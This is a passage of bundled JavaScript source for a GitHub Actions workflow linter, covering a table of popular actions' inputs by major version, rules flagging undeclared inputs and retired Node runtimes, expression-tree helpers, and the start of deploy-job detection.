    "actions/stale": { "v1": "node12|repo-token! stale-issue-message stale-pr-message days-before-stale days-before-close stale-issue-label exempt-issue-label stale-pr-label exempt-pr-label operations-per-run", "v2": "node12|+exempt-issue-labels +exempt-pr-labels +only-labels +debug-only -exempt-issue-label -exempt-pr-label", "v3": "node12|+repo-token +close-issue-message +close-pr-message +days-before-issue-stale +days-before-pr-stale +days-before-issue-close +days-before-pr-close +close-issue-label +close-pr-label +exempt-milestones +exempt-issue-milestones +exempt-pr-milestones +exempt-all-milestones +exempt-all-issue-milestones +exempt-all-pr-milestones +any-of-labels +any-of-issue-labels +any-of-pr-labels +only-issue-labels +only-pr-labels +remove-stale-when-updated +remove-issue-stale-when-updated +remove-pr-stale-when-updated +ascending +skip-stale-pr-message +skip-stale-issue-message +delete-branch +start-date +exempt-assignees +exempt-issue-assignees +exempt-pr-assignees +exempt-all-assignees +exempt-all-issue-assignees +exempt-all-pr-assignees +enable-statistics -repo-token!", "v4": "node12|+exempt-draft-pr +labels-to-add-when-unstale +labels-to-remove-when-unstale +ignore-updates +ignore-issue-updates +ignore-pr-updates -skip-stale-pr-message -skip-stale-issue-message", "v5": "node16|+close-issue-reason +include-only-assigned", "v6": "node16|=", "v7": "node16|=", "v8": "node16|+labels-to-remove-when-stale", "v9": "node20|=", "v10": "node24|+sort-by +only-issue-types" },
    "actions/upload-artifact": { "v1": "|name! path!", "v2": "node12|name path! if-no-files-found retention-days", "v3": "node16|+include-hidden-files", "v4": "node20|+compression-level +overwrite", "v5": "node20|=", "v6": "node24|=", "v7": "node24|+archive" },
    "actions/upload-pages-artifact": { "v0": "composite|path retention-days", "v1": "composite|+name", "v2": "composite|=", "v3": "composite|=", "v4": "composite|=", "v5": "composite|+include-hidden-files" },
    "aws-actions/configure-aws-credentials": { "v1": "node12|audience aws-access-key-id aws-secret-access-key aws-session-token aws-region! mask-aws-account-id role-to-assume web-identity-token-file role-duration-seconds role-session-name role-external-id role-skip-session-tagging", "v2": "node16|+http-proxy +role-chaining +inline-session-policy +managed-session-policies", "v3": "node16|+output-credentials +unset-current-credentials +disable-retry +retry-max-attempts +special-characters-workaround", "v4": "node20|+output-env-credentials +use-existing-credentials", "v5": "node20|+no-proxy +allowed-account-ids +force-skip-oidc +action-timeout-s", "v6": "node24|+aws-profile +overwrite-aws-profile +transitive-tag-keys +custom-tags +sts-endpoint" },
    "azure/login": { "v1": "node16|creds client-id tenant-id subscription-id enable-AzPSSession environment allow-no-subscriptions audience auth-type", "v2": "node20|=", "v3": "node24|=" },
    "azure/setup-kubectl": { "v1": "node12|version", "v2": "node12|=", "v3": "node16|=", "v4": "node20|=", "v5": "node24|=" },
    "cloudflare/wrangler-action": { "v3": "node20|apiToken accountId quiet environment workingDirectory wranglerVersion secrets preCommands postCommands command vars packageManager gitHubToken", "v4": "node24|=" },
    "codecov/codecov-action": { "v0": "docker|name token file flags", "v1": "node12|token files directory flags aws_curl_args codecov_curl_args commit_parent env_vars fail_ci_if_error file functionalities gcov_args gcov_executable gcov_path_exclude gcov_path_include gcov_prefix gcov_root_dir move_coverage_to_trash name network_filter override_branch override_build override_commit override_pr override_tag path_to_write_report root_dir verbose working-directory xcode_derived_data xcode_package", "v2": "node12|+dry_run +os +slug +url +version -aws_curl_args -codecov_curl_args -gcov_args -gcov_executable -gcov_path_exclude -gcov_path_include -gcov_prefix -gcov_root_dir -network_filter -path_to_write_report -xcode_derived_data -xcode_package", "v3": "node16|+full_report +gcov +gcov_args +gcov_executable +gcov_ignore +gcov_include +network_filter +network_prefix +swift +swift_project +upstream_proxy +xcode +xcode_archive_path +xtra_args", "v4": "node20|+codecov_yml_path +disable_file_fixes +disable_search +disable_safe_directory +exclude +git_service +handle_no_reports_found +job_code +override_build_url +plugin +plugins +report_code +use_legacy_upload_endpoint +use_oidc -full_report -functionalities -gcov -gcov_args -gcov_executable -gcov_ignore -gcov_include -move_coverage_to_trash -override_tag -swift -swift_project -upstream_proxy -xcode -xcode_archive_path -xtra_args", "v5": "composite|+base_sha +binary +disable_telem +force +gcov_args +gcov_executable +gcov_ignore +gcov_include +recurse_submodules +report_type +run_command +skip_validation +swift_project +use_pypi -file -plugin" },
    "dessant/lock-threads": { "v2": "node12|github-token issue-lock-inactive-days issue-exclude-created-before issue-exclude-labels issue-lock-labels issue-lock-comment issue-lock-reason pr-lock-inactive-days pr-exclude-created-before pr-exclude-labels pr-lock-labels pr-lock-comment pr-lock-reason process-only", "v3": "node12|github-token issue-inactive-days exclude-issue-created-before exclude-issue-created-after exclude-issue-created-between exclude-issue-closed-before exclude-issue-closed-after exclude-issue-closed-between include-any-issue-labels include-all-issue-labels exclude-any-issue-labels add-issue-labels remove-issue-labels issue-comment issue-lock-reason pr-inactive-days exclude-pr-created-before exclude-pr-created-after exclude-pr-created-between exclude-pr-closed-before exclude-pr-closed-after exclude-pr-closed-between include-any-pr-labels include-all-pr-labels exclude-any-pr-labels add-pr-labels remove-pr-labels pr-comment pr-lock-reason process-only log-output", "v4": "node16|=", "v5": "node20|+discussion-inactive-days +exclude-discussion-created-before +exclude-discussion-created-after +exclude-discussion-created-between +exclude-discussion-closed-before +exclude-discussion-closed-after +exclude-discussion-closed-between +include-any-discussion-labels +include-all-discussion-labels +exclude-any-discussion-labels +add-discussion-labels +remove-discussion-labels +discussion-comment", "v6": "node24|=" },
    "docker/build-push-action": { "v1": "docker|username password registry repository!~ tags tag_with_ref tag_with_sha path dockerfile target always_pull build_args cache_froms labels add_git_labels push", "v2": "node12|add-hosts allow build-args build-contexts builder cache-from cache-to cgroup-parent context file labels load network no-cache outputs platforms pull push secrets secret-files shm-size ssh tags target ulimit github-token", "v3": "node16|+attests +no-cache-filters +provenance +sbom", "v4": "node16|=", "v5": "node20|+annotations +secret-envs", "v6": "node20|+call", "v7": "node24|=" },
    "docker/login-action": { "v1": "node12|registry username password ecr logout", "v2": "node16|=", "v3": "node20|+scope +registry-auth", "v4": "node24|=" },
    "docker/metadata-action": { "v1": "node12|images! tag-sha tag-edge tag-edge-branch tag-semver tag-match tag-match-group tag-latest tag-match-latest~ tag-schedule tag-custom tag-custom-only label-custom sep-tags sep-labels github-token", "v2": "node12|images! tags flavor labels sep-tags sep-labels bake-target github-token", "v3": "node12|=", "v4": "node16|+context", "v5": "node20|+images +annotations +sep-annotations -images!", "v6": "node24|=" },
    "docker/setup-buildx-action": { "v1": "node12|version driver driver-opts buildkitd-flags install use endpoint config config-inline", "v2": "node16|+platforms +append +cleanup", "v3": "node20|+buildkitd-config +buildkitd-config-inline +name +keep-state +cache-binary +config~ +config-inline~ +install~ -install -config -config-inline", "v4": "node24|-config~ -config-inline~ -install~" },
    "docker/setup-qemu-action": { "v1": "node12|image platforms", "v2": "node16|=", "v3": "node20|+cache-image", "v4": "node24|+reset" },
    "golangci/golangci-lint-action": { "v0": "node12|version! args github-token!", "v1": "node12|version! args working-directory github-token only-new-issues", "v2": "node12|+version +skip-go-installation +skip-pkg-cache +skip-build-cache -version!", "v3": "node16|+skip-cache +install-mode -skip-go-installation", "v4": "node20|=", "v5": "node20|+skip-save-cache +annotations +cache-invalidation-interval -skip-pkg-cache -skip-build-cache", "v6": "node20|+verify +problem-matchers -annotations", "v7": "node20|=", "v8": "node20|=", "v9": "node24|+version-file +install-only +debug +experimental" },
    "google-github-actions/auth": { "v0": "node16|project_id workload_identity_provider service_account audience credentials_json create_credentials_file export_environment_variables token_format delegates cleanup_credentials access_token_lifetime access_token_scopes access_token_subject retries backoff backoff_limit id_token_audience id_token_include_email", "v1": "node16|=", "v2": "node20|+universe +request_reason +retries~ +backoff~ +backoff_limit~ -retries -backoff -backoff_limit", "v3": "node24|-retries~ -backoff~ -backoff_limit~" },
    "google-github-actions/setup-gcloud": { "v0": "node16|version service_account_email service_account_key project_id install_components export_default_credentials credentials_file_path cleanup_credentials", "v1": "node16|skip_install version project_id install_components", "v2": "node20|+skip_tool_cache", "v3": "node24|+cache -skip_tool_cache" },
    "hashicorp/setup-terraform": { "v1": "node12|cli_config_credentials_hostname cli_config_credentials_token terraform_version terraform_wrapper", "v2": "node16|=", "v3": "node20|=", "v4": "node24|=" },
    "jamesives/github-pages-deploy-action": { "v4": "node20|ssh-key token branch folder! target-folder commit-message clean clean-exclude dry-run force git-config-name git-config-email repository-name tag single-commit silent" },
    "peaceiris/actions-gh-pages": { "v2": "docker|emptyCommits keepFiles forceOrphan username useremail commitMessage tagName tagMessage tagOverwrite", "v3": "node16|deploy_key github_token personal_token publish_branch publish_dir destination_dir external_repository allow_empty_commit keep_files force_orphan user_name user_email commit_message full_commit_message tag_name tag_message enable_jekyll disable_nojekyll cname exclude_assets", "v4": "node24|=" },
    "peter-evans/create-pull-request": { "v1": "node12|token! commit-message author-name author-email committer-name committer-email title body labels assignees reviewers team-reviewers milestone project project-column branch base branch-suffix", "v2": "node12|+token +path +committer +author +draft +request-to-parent -token! -author-name -author-email -committer-name -committer-email", "v3": "node12|+add-paths +signoff +delete-branch +push-to-fork -project -project-column -request-to-parent", "v4": "node16|=", "v5": "node16|+body-path", "v6": "node20|+git-token", "v7": "node20|+branch-token +sign-commits +maintainer-can-modify -git-token", "v8": "node24|=" },
    "pnpm/action-setup": { "v1": "node12|version! dest bin_dest registry", "v2": "node16|version dest run_install package_json_file standalone", "v3": "node20|=", "v4": "node20|=" },
    "ruby/setup-ruby": { "v1": "node24|ruby-version rubygems bundler bundler-cache working-directory cache-version self-hosted windows-toolchain token" },
    "softprops/action-gh-release": { "v0": "node16|body body_path name tag_name draft prerelease files fail_on_unmatched_files repository token target_commitish discussion_category_name generate_release_notes append_body", "v1": "node16|=", "v2": "node20|+preserve_order +working_directory +overwrite_files +previous_tag +make_latest", "v3": "node24|=" },
    "swatinem/rust-cache": { "v1": "node12|key sharedKey working-directory target-dir cache-on-failure", "v2": "node24|prefix-key shared-key key add-job-id-key add-rust-environment-hash-key env-vars workspaces cache-directories cache-targets cache-on-failure cache-all-crates cache-workspace-crates save-if cache-provider cache-bin lookup-only cmd-format" },
    "tj-actions/changed-files": { "v1": "composite|separator", "v2": "composite|=", "v3": "composite|=", "v4": "composite|=", "v5": "composite|+files", "v6": "docker|+token", "v7": "docker|=", "v8": "composite|=", "v9": "composite|+files_from_source_file +sha +base_sha", "v10": "composite|+path", "v11": "composite|+since_last_remote_commit", "v12": "composite|=", "v13": "composite|=", "v14": "composite|=", "v15": "composite|+files_separator +files_ignore +files_ignore_separator +files_ignore_from_source_file", "v16": "composite|+use_fork_point", "v17": "composite|=", "v18": "composite|=", "v19": "composite|+quotepath", "v20": "composite|+old_new_separator +old_new_files_separator", "v21": "composite|+include_all_old_new_renamed_files", "v22": "composite|=", "v23": "composite|+diff_relative +dir_names", "v24": "composite|=", "v25": "composite|+json", "v26": "composite|=", "v27": "composite|=", "v28": "composite|+since +until", "v29": "composite|-token", "v30": "composite|-use_fork_point", "v31": "composite|-since_last_remote_commit", "v32": "composite|+target_branch_fetch_depth", "v33": "composite|=", "v34": "composite|+dir_names_max_depth +fetch_depth +max_fetch_depth +since_last_remote_commit -target_branch_fetch_depth", "v35": "composite|+dir_names_exclude_root +json_raw_format +write_output_files +output_dir +match_directories -max_fetch_depth", "v36": "node16|+files_from_source_file_separator +files_yaml +files_yaml_from_source_file +files_yaml_from_source_file_separator +files_ignore_yaml +files_ignore_yaml_from_source_file +files_ignore_yaml_from_source_file_separator +files_ignore_from_source_file_separator +dir_names_exclude_current_dir +dir_names_exclude_root~ +escape_json +output_renamed_files_as_deleted_and_added +recover_deleted_files +recover_deleted_files_to_destination -dir_names_exclude_root -json_raw_format -match_directories", "v37": "node16|+token +api_url -dir_names_exclude_root~", "v38": "node16|+dir_names_include_files +dir_names_include_files_separator +skip_initial_fetch +recover_files +recover_files_separator +recover_files_ignore +recover_files_ignore_separator", "v39": "node20|+fetch_additional_submodule_history +fail_on_initial_diff_error +fail_on_submodule_diff_error", "v40": "node20|+dir_names_deleted_files_include_only_deleted_dirs", "v41": "node20|+safe_output +negation_patterns_first", "v42": "node20|+use_rest_api", "v43": "node20|+matrix", "v44": "node20|=", "v45": "node20|+exclude_submodules +fetch_missing_history_max_retries +use_posix_path_separator +tags_pattern +tags_ignore_pattern", "v46": "node20|=", "v47": "node24|=" } };

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/supply-chain/popular-actions.js


const decoded = new Map();
/** The majors of an action of the table, each with its runtime and input tokens (`name!`, `name~`). */
function majorsOf(key) {
    const raw = POPULAR_ACTIONS[key];
    if (!raw)
        return undefined;
    let map = decoded.get(key);
    if (map)
        return map;
    map = new Map();
    let last = [];
    for (const [v, entry] of Object.entries(raw)) {
        const bar = entry.indexOf('|');
        const using = entry.slice(0, bar);
        const text = entry.slice(bar + 1);
        const tokens = text === '=' ? [] : text.split(' ').filter(Boolean);
        let inputs;
        if (tokens.length && tokens.every((t) => t.startsWith('+') || t.startsWith('-'))) {
            const gone = new Set(tokens.filter((t) => t.startsWith('-')).map((t) => t.slice(1)));
            inputs = [...last.filter((i) => !gone.has(i)), ...tokens.filter((t) => t.startsWith('+')).map((t) => t.slice(1))];
        }
        else
            inputs = text === '=' ? last : tokens;
        map.set(Number(v.slice(1)), { using, inputs });
        last = inputs;
    }
    decoded.set(key, map);
    return map;
}
const popular_actions_SHA = /^[0-9a-f]{40}$/;
/**
 * The major version a `uses:` names: `@v4`, `@v4.1.2`, or for a commit SHA the version in the
 * comment after it on its line (`@<sha> # v4.2.2`, as Dependabot and Renovate write it).
 */
function majorOf(ref, uses, file) {
    const m = /^v?(\d+)(?:\.\d+){0,2}$/.exec(ref);
    if (m)
        return Number(m[1]);
    if (!popular_actions_SHA.test(ref))
        return undefined;
    const line = tokens_lineOf(file, uses.at.line);
    const c = /#\s*(?:[\w.-]+@)?v?(\d+)(?:\.\d+){0,2}\b/.exec(line.slice(uses.at.column - 1 + uses.value.length).slice(0, 200));
    return c ? Number(c[1]) : undefined;
}
/** The popular action a `uses:` runs, at its major version; undefined when it is not in the table. */
function popularAction(uses, file) {
    const value = uses.value.trim();
    const at = value.lastIndexOf('@');
    if (at < 0 || value.startsWith('./') || value.startsWith('docker://'))
        return undefined;
    const key = value.slice(0, at).toLowerCase();
    const majors = majorsOf(key);
    if (!majors)
        return undefined;
    const major = majorOf(value.slice(at + 1), uses, file);
    const entry = major === undefined ? undefined : majors.get(major);
    if (!entry)
        return undefined;
    const inputs = new Map();
    for (const token of entry.inputs) {
        const name = token.replace(/[!~]+$/, '');
        inputs.set(name, { required: /!~?$/.test(token), deprecated: token.endsWith('~') });
    }
    return { name: `${value.slice(0, at)}@v${major}`, major: major, using: entry.using, inputs };
}
/** The first major of the action that runs on `using` (e.g. the first on node24), if any. */
function firstMajorOn(uses, using) {
    const majors = majorsOf(uses.slice(0, uses.lastIndexOf('@')).toLowerCase());
    for (const [major, entry] of majors ?? [])
        if (entry.using === using)
            return major;
    return undefined;
}

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/supply-chain/remote-uses.js

/** The files remote `uses:` run, by their `uses:` node; filled by {@link RemoteUses.prepare}. */
class RemoteUses {
    context;
    files = new Map();
    constructor(context) {
        this.context = context;
    }
    /** Reads every remote `uses:` of the run (nothing without a token); failures become notes. */
    prepare() {
        return eachSite(this.context, async (session, site) => {
            const model = await session.usesFileAt(site.owner, site.repo, site.path, site.ref);
            if (reportFailure(this.context, session, site, model) || !model)
                return;
            this.files.set(site.node, { model, name: nameOf(site) });
        });
    }
    /** The file a `uses:` runs, when the API gave it. */
    get(uses) {
        return uses && this.files.get(uses);
    }
}
function nameOf(site) {
    return `${site.slug}${site.path ? `/${site.path}` : ''}@${site.sha ? site.sha.slice(0, 12) : site.ref}`;
}
/**
 * The inputs an action's metadata declares, as the input checks take them; a Docker action also
 * takes `with: args` and `entrypoint`, which override its container's (GitHub's workflow syntax,
 * `jobs.<job_id>.steps[*].with.args`).
 */
function declaredInputs(model) {
    const inputs = new Map([...model.inputs].map(([name, input]) => [name, { required: input.required && !input.hasDefault, deprecated: input.deprecated }]));
    if (model.using?.value.trim().toLowerCase() === 'docker') {
        for (const name of ['args', 'entrypoint'])
            if (![...inputs.keys()].some((k) => k.toLowerCase() === name))
                inputs.set(name, { required: false });
    }
    return inputs;
}

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/supply-chain/popular-action-inputs.js




const popular_action_inputs_rule = {
    id: 'PG150',
    name: 'popular-action-inputs',
    level: 'warning',
    description: '`with:` keys that a remote action does not declare, required inputs left out (errors), and deprecated inputs (warnings): from its action.yml at the ref used when a token is given, else from the stored table of popular actions (actions/checkout, docker/build-push-action, …) at the major version used.',
    help: "The runner ignores an undeclared input with only a warning in the log, so a misspelt or removed input (`save-always` of actions/cache, inputs renamed between majors) silently takes its default; a required input left out usually fails the step. Input names are case-insensitive. With the `token` input, the `action.yml` (or `action.yaml`) of every remote `uses:` is read through the GitHub API at the ref it names (GET contents, once per repository, path and ref a run, files over 256 KB refused), and its answer decides; for a reusable workflow (`uses: owner/repo/.github/workflows/x.yml@ref`) its `on.workflow_call` inputs and secrets are checked the same way. Without a token, or when the API has no answer, the inputs of about 40 of the most used actions are taken from a stored table of their real `action.yml` per major version (scripts/popular-actions/ regenerates it): the major is the tag (`@v4`, `@v4.2.1`) or, for a commit SHA, the version in the comment after it (`@<sha> # v4.2.2`); other actions are not checked.",
    create(context) {
        const remote = new RemoteUses(context);
        return {
            prepare: () => remote.prepare(),
            jobPre(job, workflow) {
                const called = remote.get(job.uses);
                if (called?.model.kind === 'workflow')
                    checkWorkflowCall(context, workflow, job, called.model, called.name, 'error');
            },
            step(step, _owner, file) {
                if (!step.uses)
                    return;
                const online = remote.get(step.uses);
                if (online?.model.kind === 'action') {
                    checkStepInputs(context, file, step, declaredInputs(online.model), online.name, 'error');
                    return;
                }
                const action = popularAction(step.uses, file.file);
                if (action)
                    checkStepInputs(context, file, step, action.inputs, action.name, 'error');
            }
        };
    }
};
/* harmony default export */ const popular_action_inputs = (popular_action_inputs_rule);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/supply-chain/outdated-action-runtime.js



/** Runtimes GitHub no longer runs as declared: an error when retired, a warning when forced onto a newer one. */
const OUTDATED = {
    node12: { level: 'error', why: 'GitHub retired node12 (actions run on a newer Node.js, or fail)' },
    node16: { level: 'error', why: 'GitHub retired node16 (actions run on a newer Node.js, or fail)' },
    node20: { level: 'warning', why: 'GitHub runs node20 actions on Node 24 since September 2026' }
};
const outdated_action_runtime_rule = {
    id: 'PG151',
    name: 'outdated-action-runtime',
    level: 'warning',
    description: 'An action whose `runs.using` is a Node.js runtime GitHub retired (node12, node16: error) or forces onto Node 24 (node20: warning): local actions, remote actions by their action.yml at the ref used when a token is given, else popular actions at the major used.',
    help: "GitHub retired the node12 and node16 runtimes of JavaScript actions, and since September 2026 runs node20 actions on Node 24. An action written for an older runtime may break on the newer one; update it to a major that declares `using: node24` (the message names it for popular actions, from the stored table of their action.yml). For a local action (`uses: ./path`), update `runs.using` in its action.yml. With the `token` input, the `action.yml` of every remote `uses:` is read through the GitHub API at the ref it names, and its `runs.using` decides: a commit SHA whose version comment is wrong is judged by what really runs. Without a token, the major of a popular action is the tag, or for a commit SHA the version in the comment after it (`# v4.2.2`).",
    create(context) {
        const remote = new RemoteUses(context);
        const report = (file, node, what, using, fix) => {
            const outdated = OUTDATED[using.toLowerCase()];
            if (outdated)
                context.report(file, node, `${what} runs on ${using}: ${outdated.why}; ${fix}`, outdated.level);
        };
        const update = (uses, major) => {
            const next = firstMajorOn(uses, 'node24');
            return next !== undefined && (major === undefined || next > major) ? `update to v${next} or later (node24)` : 'update it to a version on node24';
        };
        return {
            prepare: () => remote.prepare(),
            step(step, _owner, file) {
                const uses = step.uses;
                if (!uses)
                    return;
                if (isLocalUses(uses.value)) {
                    const local = context.project.local(uses.value);
                    if (local?.kind === 'action' && local.using)
                        report(file.file, uses, `local action ${local.file.path}`, local.using.value, `set runs.using to node24 in ${local.file.path}`);
                    return;
                }
                const online = remote.get(uses);
                if (online) {
                    // The API answered: its action.yml decides, whatever the tag or comment says.
                    if (online.model.kind === 'action' && online.model.using)
                        report(file.file, uses, `"${online.name}" (its action.yml at that ref)`, online.model.using.value, update(uses.value));
                    return;
                }
                const action = popularAction(uses, file.file);
                if (action?.using)
                    report(file.file, uses, `"${action.name}"`, action.using, update(uses.value, action.major));
            }
        };
    }
};
/* harmony default export */ const outdated_action_runtime = (outdated_action_runtime_rule);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/injection/expr-tree.js
/**
 * Expression trees for the rules that judge what an expression does, not only which contexts it
 * names (zizmor's bot-conditions, unsound-contains, overprovisioned-secrets, unredacted-secrets):
 * the parsed tree of an expression site, where each node starts in the file, and the context path a
 * node reads (`github['ACTOR']` → `github.actor`).
 */




/** The tree of an expression; undefined when it does not parse (the syntax rules report that). */
const parseTree = parseExpression;
/** A position of the expression's lexer (0-based line and column within it) in the file. */
function filePos(site, p) {
    return p.line === 0 ? { line: site.at.line, column: site.at.column + p.column } : { line: site.at.line + p.line, column: p.column + 1 };
}
/** Where a node of the tree starts, in the lexer's coordinates; undefined for a bare `*`. */
function startOf(e) {
    if (e instanceof ast/* Literal */.uS)
        return e.token.range.start;
    if (e instanceof ast/* ContextAccess */.QC)
        return e.name.range.start;
    if (e instanceof ast/* FunctionCall */.R6)
        return e.functionName.range.start;
    if (e instanceof ast/* IndexAccess */.p_)
        return startOf(e.expr);
    if (e instanceof ast/* Binary */.yI)
        return startOf(e.left);
    if (e instanceof ast/* Logical */.oD)
        return e.args[0] ? startOf(e.args[0]) : e.operator.range.start;
    if (e instanceof ast/* Unary */._c)
        return e.operator.range.start;
    if (e instanceof ast/* Grouping */.aU)
        return startOf(e.group);
    return undefined;
}
/** The children of a node (a grouping's content, a call's arguments, both sides of an operator). */
function childrenOf(e) {
    if (e instanceof ast/* FunctionCall */.R6 || e instanceof ast/* Logical */.oD)
        return e.args;
    if (e instanceof ast/* Binary */.yI)
        return [e.left, e.right];
    if (e instanceof ast/* Unary */._c)
        return [e.expr];
    if (e instanceof ast/* Grouping */.aU)
        return [e.group];
    if (e instanceof ast/* IndexAccess */.p_)
        return [e.expr, e.index];
    return [];
}
/** Strips groupings: `(a)` is `a`. */
function ungroup(e) {
    let cur = e;
    while (cur instanceof ast/* Grouping */.aU)
        cur = cur.group;
    return cur;
}
/** True for a context read: `github.actor`, `github['actor']`, `secrets[x]`, `steps.*.outputs`. */
function isContextRead(e) {
    let cur = ungroup(e);
    while (cur instanceof ast/* IndexAccess */.p_)
        cur = cur.expr;
    return cur instanceof ast/* ContextAccess */.QC;
}
/**
 * The lower-case dotted path a context read names (`github['ACTOR']` → `github.actor`), `*` for a
 * filter; undefined past a computed index (`secrets[matrix.name]`) or for anything else.
 */
function contextPath(e) {
    const parts = [];
    let cur = ungroup(e);
    while (cur instanceof ast/* IndexAccess */.p_) {
        const index = cur.index;
        if (index instanceof ast/* Literal */.uS)
            parts.unshift(String(index.token.value ?? index.token.lexeme).toLowerCase());
        else if (index.constructor.name === 'Star')
            parts.unshift('*');
        else
            return undefined;
        cur = cur.expr;
    }
    if (!(cur instanceof ast/* ContextAccess */.QC))
        return undefined;
    parts.unshift(cur.name.lexeme.toLowerCase());
    return parts.join('.');
}
/** The lower-case name of a called function, or undefined when `e` is not a call. */
function callName(e) {
    return e instanceof ast/* FunctionCall */.R6 ? e.functionName.lexeme.toLowerCase() : undefined;
}
/** A context read as written, indices as dots (`github['actor']` → `github.actor`); `…` past a computed index. */
function contextText(e) {
    const parts = [];
    let cur = ungroup(e);
    while (cur instanceof ast/* IndexAccess */.p_) {
        const index = cur.index;
        parts.unshift(index instanceof ast/* Literal */.uS ? String(index.token.value ?? index.token.lexeme) : index.constructor.name === 'Star' ? '*' : '…');
        cur = cur.expr;
    }
    if (cur instanceof ast/* ContextAccess */.QC)
        parts.unshift(cur.name.lexeme);
    return parts.join('.');
}
/** The key of `name:` in a mapping, positioned; undefined when the mapping has none. */
function keyNode(token, name) {
    if (!token || !(0,dist/* isMapping */.pi)(token))
        return undefined;
    for (const pair of token) {
        if ((0,dist/* isString */.Kg)(pair.key) && pair.key.value === name) {
            const r = pair.key.range;
            return { value: name, at: r ? { line: r.start.line, column: r.start.column } : { line: 1, column: 1 } };
        }
    }
    return undefined;
}
/** The value of `name:` in a mapping. */
function expr_tree_valueOf(token, name) {
    if (!token || !(0,dist/* isMapping */.pi)(token))
        return undefined;
    for (const pair of token)
        if ((0,dist/* isString */.Kg)(pair.key) && pair.key.value === name)
            return pair.value;
    return undefined;
}
/** A token's position as a node. */
function expr_tree_nodeOf(token) {
    const r = token.range;
    return { at: r ? { line: r.start.line, column: r.start.column } : { line: 1, column: 1 } };
}
/** Each `${{ }}` under a token that parses, with its tree. */
function* parsedSites(root) {
    for (const site of expressionSites(root)) {
        const tree = parseTree(site.text);
        if (tree)
            yield { site, tree };
    }
}
/** The condition of an `if:` (bare or in `${{ }}`), parsed, with where it starts. */
function parsedCondition(token) {
    if (!token)
        return undefined;
    for (const site of expressionSites(token, true)) {
        const tree = parseTree(site.text);
        return tree ? { site, tree } : undefined;
    }
    return undefined;
}
/** The conditions of a job: its own `if:` and each step's, with the `if` key of each. */
function* jobConditions(job) {
    const owners = [job.token, ...job.steps.map((s) => s.token)];
    for (const owner of owners) {
        const key = keyNode(owner, 'if');
        const cond = key && parsedCondition(expr_tree_valueOf(owner, 'if'));
        if (key && cond)
            yield { key, ...cond };
    }
}
/** Where the `${{` of an expression site starts (zizmor reports the whole fenced expression). */
function fenceStart(file, site) {
    const line = tokens_lineOf(file, site.at.line);
    const i = line.lastIndexOf('${{', site.at.column - 1);
    return { at: i >= 0 ? { line: site.at.line, column: i + 1 } : site.at };
}
/**
 * Hooks that read every `${{ }}` of a workflow or action file (zizmor's raw audits) and report
 * `count(tree)` findings at each one's `${{`, with `message(text)`.
 */
function perFencedExpression(context, count, message) {
    const scan = (file, root) => {
        for (const { site, tree } of parsedSites(root)) {
            for (let i = count(tree); i > 0; i--)
                context.report(file, fenceStart(file, site), message(`\${{ ${site.text.trim()} }}`));
        }
    };
    return {
        workflowPre: (workflow) => scan(workflow.file, workflow.root),
        actionPre: (action) => scan(action.file, action.root)
    };
}
/** How many nodes of a tree `match` (not looking inside a node that matches). */
function countMatches(e, match) {
    const node = ungroup(e);
    if (match(node))
        return 1;
    let n = 0;
    for (const c of childrenOf(node))
        n += countMatches(c, match);
    return n;
}

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/deployment/deploy-jobs.js
/**
 * Deploy jobs of a workflow, shared by the deployment-policy rules (PG300–PG304): which jobs
 * deploy, to which environment, with which step, and how jobs are ordered through `needs:`.
 *
 * A deploy job is a job that changes a running service: one of its steps
 * - uses our deploy action (`…/actions/deploy` under any owner and repository name, `./` or `$/`)
 *   or the root action (`owner/phase-gates@…`, the whole Phase 06 in one step);
 * - uses a common deploy action (cloudflare/wrangler-action, azure/webapps-deploy,
 *   aws-actions/amazon-ecs-deploy-task-definition, google-github-actions/deploy-cloudrun, a
 *   production Netlify/Vercel/Firebase deploy, …);
 * - runs a deploy command (`wrangler deploy`, `flyctl deploy`, `gcloud run deploy`,
 *   `./deploy.sh`, `make deploy`, `npm run deploy`, …);
 * - or, in a job named for deploying (deploy, release, publish, rollout, prod) or bound to an
 *   `environment:`, runs a generic infrastructure command (`kubectl apply`, `helm upgrade`,
 *   `terraform apply`, …) or a remote script through an SSH action.
 * An `environment:` alone does not make a deploy job: package publishes (trusted publishing asks
 * for an environment), image builds, tag moves and approval-only jobs change no running service.
 * Preview deploys (Vercel or Netlify without `--prod`, a Firebase preview channel) and dry runs
 * are not deploys either.
 */


/** `owner/repo/…/actions/<name>@ref`, `./…/actions/<name>` or `$/…/actions/<name>`: our action under any repository name. */
function ownAction(name) {
    return new RegExp(`^(?:[^/\\s@]+/[^/\\s@]+/(?:[^@\\s]+/)?actions/${name}@|[.$]/(?:[^@\\s]+/)?actions/${name}/?$)`, 'i');
}
const DEPLOY_ACTION = ownAction('deploy');
const SMOKE_ACTION = ownAction('smoke-test');
const GATES_ACTION = ownAction('gates-enforcer');
const ROOT_ACTION = /^[^/\s@]+\/phase-gates@/i;
/** Inputs only our root action has: a root action renamed or forked is still recognised by them. */
const ROOT_INPUTS = ['phase-file', 'provider'];
/** Deploy actions of the field: `owner/repo[/path]` (lower case) and, when only some uses deploy, which. */
const DEPLOY_ACTIONS = [
    ['cloudflare/wrangler-action', (s) => { const c = deploy_jobs_input(s, 'command'); return c === undefined || /\b(?:deploy|publish)\b/.test(c) && !DRY_RUN.test(c); }],
    ['cloudflare/pages-action'],
    ['azure/webapps-deploy'],
    ['azure/functions-action'],
    ['azure/k8s-deploy'],
    ['azure/container-apps-deploy-action'],
    ['azure/static-web-apps-deploy', (s) => deploy_jobs_input(s, 'action')?.trim().toLowerCase() !== 'close'],
    ['aws-actions/amazon-ecs-deploy-task-definition'],
    ['aws-actions/aws-cloudformation-github-deploy'],
    ['google-github-actions/deploy-cloudrun'],
    ['google-github-actions/deploy-appengine'],
    ['google-github-actions/deploy-cloud-functions'],
    ['superfly/flyctl-actions', (s) => /\bdeploy\b/.test(deploy_jobs_input(s, 'args') ?? '')],
    ['firebaseextended/action-hosting-deploy', (s) => deploy_jobs_input(s, 'channelId')?.trim() === 'live'],
    ['amondnet/vercel-action', (s) => /--prod\b/.test(deploy_jobs_input(s, 'vercel-args') ?? '')],
    ['nwtgck/actions-netlify', (s) => deploy_jobs_input(s, 'production-deploy')?.trim() === 'true'],
    ['netlify/actions/cli', (s) => /\bdeploy\b.*--prod\b/.test(deploy_jobs_input(s, 'args') ?? '')],
    ['akhileshns/heroku-deploy'],
